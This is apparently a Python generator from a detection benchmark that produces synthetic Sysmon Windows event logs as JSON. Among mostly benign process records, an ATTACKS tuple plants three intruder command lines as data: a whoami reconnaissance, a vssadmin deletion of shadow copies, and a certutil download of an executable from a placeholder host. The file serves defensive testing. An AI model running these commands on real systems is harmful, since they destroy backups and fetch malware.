"""Windows events as collectors write them: one JSON object a line, 0.5 to 3 KB, of everyday machines.

Process creations (Sysmon 1) most of all, as most rules of SigmaHQ ask for those, then registry, network, image load,
logons and services. ``per event`` values (ids, times, ports) are fresh, names repeat as they do on real hosts. Every
name, address and hash is made up. ``python -m bench.windows SEED COUNT`` prints them.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from random import Random
from typing import Any

from bench.values import identity

SYSTEM = "C:\\Windows\\System32\\"
FILES = "C:\\Program Files\\"
CREATIONS = (
    (SYSTEM + "services.exe", "", SYSTEM + "svchost.exe", "-k netsvcs -p -s Schedule", "svchost.exe"),
    (SYSTEM + "services.exe", "", SYSTEM + "svchost.exe", "-k LocalServiceNetworkRestricted -p", "svchost.exe"),
    (SYSTEM + "services.exe", "", SYSTEM + "spoolsv.exe", "", "spoolsv.exe"),
    (SYSTEM + "services.exe", "", SYSTEM + "SearchIndexer.exe", "/Embedding", "SearchIndexer.exe"),
    (SYSTEM + "svchost.exe", "-k netsvcs -p -s Schedule", SYSTEM + "taskhostw.exe", "Logon", "taskhostw.exe"),
    (SYSTEM + "svchost.exe", "-k DcomLaunch -p", SYSTEM + "RuntimeBroker.exe", "-Embedding", "RuntimeBroker.exe"),
    (SYSTEM + "svchost.exe", "-k DcomLaunch -p", SYSTEM + "dllhost.exe", "/Processid:{%s}", "dllhost.exe"),
    (SYSTEM + "svchost.exe", "-k DcomLaunch -p", SYSTEM + "backgroundTaskHost.exe", "-ServerName:App.App%s.mca",
     "backgroundTaskHost.exe"),
    (SYSTEM + "svchost.exe", "-k DcomLaunch -p", SYSTEM + "wbem\\WmiPrvSE.exe", "-secured -Embedding",
     "Wmiprvse.exe"),
    (SYSTEM + "SearchIndexer.exe", "/Embedding", SYSTEM + "SearchProtocolHost.exe", "Global\\UsGthr%s_",
     "SearchProtocolHost.exe"),
    (SYSTEM + "SearchIndexer.exe", "/Embedding", SYSTEM + "SearchFilterHost.exe", "0 804 808 816 8192 812",
     "SearchFilterHost.exe"),
    ("C:\\Windows\\explorer.exe", "", FILES + "Mozilla Firefox\\firefox.exe", "-osint", "firefox.exe"),
    ("C:\\Windows\\explorer.exe", "", FILES + "Microsoft Office\\root\\Office16\\WINWORD.EXE",
     '/n "C:\\Users\\anna\\Documents\\minutes-%s.docx"', "WinWord.exe"),
    ("C:\\Windows\\explorer.exe", "", FILES + "7-Zip\\7zFM.exe", '"C:\\Users\\anna\\Documents\\tax.zip"', "7zFM.exe"),
    (FILES + "Mozilla Firefox\\firefox.exe", "-osint", FILES + "Mozilla Firefox\\firefox.exe",
     '-contentproc -parentBuildID %s -prefsHandle 2904 -appDir "C:\\Program Files\\Mozilla Firefox\\browser" tab',
     "firefox.exe"),
    (FILES + "Google\\Chrome\\Application\\chrome.exe", "", FILES + "Google\\Chrome\\Application\\chrome.exe",
     "--type=renderer --lang=de --num-raster-threads=4 --renderer-client-id=%s", "chrome.exe"),
    (FILES + "Git\\cmd\\git.exe", "status", FILES + "Git\\mingw64\\bin\\git.exe", "status --porcelain", "git.exe"),
    (SYSTEM + "services.exe", "", FILES + "Backup\\bkclient.exe", "--job nightly --id %s", "bkclient.exe"),
    (FILES + "Inventory\\agent.exe", "--service", FILES + "Inventory\\collect.exe", "--run %s", "collect.exe"),
)  # fmt: skip
"""Parent, its arguments, image, its arguments (with a place for what differs), original file name."""
ATTACKS = (
    (SYSTEM + "cmd.exe", "", SYSTEM + "whoami.exe", "/all", "whoami.exe"),
    (SYSTEM + "cmd.exe", "", SYSTEM + "vssadmin.exe", "delete shadows /all /quiet", "VSSADMIN.EXE"),
    (SYSTEM + "cmd.exe", "", SYSTEM + "certutil.exe", "-urlcache -f http://%s.invalid/a.exe a.exe", "CertUtil.exe"),
)
"""The same, of intruders: one process in 500."""
USERS = ("NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "CONTOSO\\anna", "CONTOSO\\bela", "CONTOSO\\backup")
HOSTS = ("ws-017.contoso.example", "ws-022.contoso.example", "dc-1.contoso.example", "files.contoso.example")
SYSMON = "Microsoft-Windows-Sysmon"


def _guid(rng: Random) -> str:
    return f"{{{identity(rng)}}}"


def _time(rng: Random, number: int) -> str:
    return f"2026-09-21 14:{number // 60000 % 60:02}:{number // 1000 % 60:02}.{number % 1000:03}"


def _process(rng: Random, number: int) -> dict[str, object]:
    parent, parent_arguments, image, arguments, original = rng.choice(CREATIONS if rng.random() < 0.998 else ATTACKS)
    arguments = arguments.replace("%s", f"{rng.getrandbits(48):012x}")
    user = USERS[0] if parent.startswith(SYSTEM) else rng.choice(USERS[2:])
    hashes = f"MD5={rng.getrandbits(128):032X},SHA256={rng.getrandbits(256):064X},IMPHASH={rng.getrandbits(128):032X}"
    return {
        "RuleName": "-",
        "UtcTime": _time(rng, number),
        "ProcessGuid": _guid(rng),
        "ProcessId": rng.randrange(400, 65000),
        "Image": image,
        "FileVersion": f"10.0.{rng.randrange(19041, 22631)}.1 (WinBuild.160101.0800)",
        "Description": image.rpartition("\\")[2].removesuffix(".exe") + " for everyday use on this computer",
        "Product": "Microsoft® Windows® Operating System" if image.startswith(SYSTEM) else "Application",
        "Company": "Microsoft Corporation" if image.startswith(SYSTEM) else "Contoso Ltd",
        "OriginalFileName": original,
        "CommandLine": f"{image} {arguments}".rstrip(),
        "CurrentDirectory": SYSTEM if image.startswith(SYSTEM) else "C:\\Users\\anna\\",
        "User": user,
        "LogonGuid": _guid(rng),
        "LogonId": hex(rng.getrandbits(24)),
        "TerminalSessionId": rng.randrange(3),
        "IntegrityLevel": "System" if user == USERS[0] else "Medium",
        "Hashes": hashes,
        "ParentProcessGuid": _guid(rng),
        "ParentProcessId": rng.randrange(400, 65000),
        "ParentImage": parent,
        "ParentCommandLine": f"{parent} {parent_arguments}".rstrip(),
        "ParentUser": USERS[0],
    }


def _other(rng: Random, number: int) -> tuple[int, dict[str, object]]:
    common = {
        "UtcTime": _time(rng, number),
        "ProcessGuid": _guid(rng),
        "Image": rng.choice(CREATIONS)[2],
        "User": rng.choice(USERS),
    }
    kind = rng.choice((3, 7, 11, 13))
    match kind:
        case 3:
            more = {
                "Protocol": "tcp", "Initiated": "true", "SourceIp": f"10.0.4.{rng.randrange(1, 250)}",
                "SourcePort": rng.randrange(40000, 65000), "DestinationIp": f"198.18.3.{rng.randrange(1, 250)}",
                "DestinationHostname": "update.contoso.example", "DestinationPort": rng.choice((80, 443, 445)),
            }  # fmt: skip
        case 7:
            library = rng.choice(("kernel32.dll", "ntdll.dll", "user32.dll", "combase.dll"))
            more = {
                "ImageLoaded": SYSTEM + library, "Signed": "true", "Signature": "Microsoft Windows",
                "SignatureStatus": "Valid", "Hashes": f"SHA256={rng.getrandbits(256):064X}",
            }  # fmt: skip
        case 11:
            more = {"TargetFilename": f"C:\\Users\\anna\\AppData\\Local\\Cache\\{rng.getrandbits(40):x}.tmp"}
        case _:
            more = {
                "EventType": "SetValue", "Details": f"DWORD (0x{rng.getrandbits(32):08x})",
                "TargetObject": f"HKLM\\System\\CurrentControlSet\\Services\\svc{rng.randrange(90)}\\Start",
            }  # fmt: skip
    return kind, {**common, **more}


def _message(data: dict[str, object]) -> str:
    """The event as the viewer prints it: what makes real events long."""
    return "\r\n".join(f"{name}: {value}" for name, value in data.items())


def event(rng: Random, number: int) -> dict[str, Any]:
    """Return one, of Sysmon."""
    event_id, data = (1, _process(rng, number)) if rng.random() < 0.85 else _other(rng, number)
    return {
        "@timestamp": f"2026-09-21T14:{number // 60000 % 60:02}:{number // 1000 % 60:02}.{number % 1000:03}Z",
        "host": {"name": rng.choice(HOSTS)},
        "winlog": {
            "channel": f"{SYSMON}/Operational",
            "provider_name": SYSMON,
            "event_id": event_id,
            "record_id": 10_000_000 + number,
            "computer_name": rng.choice(HOSTS),
            "event_data": data,
        },
        "message": f"Sysmon event {event_id}:\r\n{_message(data)}",
    }


def events(seed: int, count: int) -> Iterator[bytes]:
    """``count`` lines of JSON without newline; 2.4 KB on average."""
    rng = Random(f"windows {seed}")
    for number in range(count):
        yield json.dumps(event(rng, number), separators=(",", ":"), ensure_ascii=False).encode()


if __name__ == "__main__":
    for line in events(int(sys.argv[1]), int(sys.argv[2])):
        sys.stdout.buffer.write(line + b"\n")
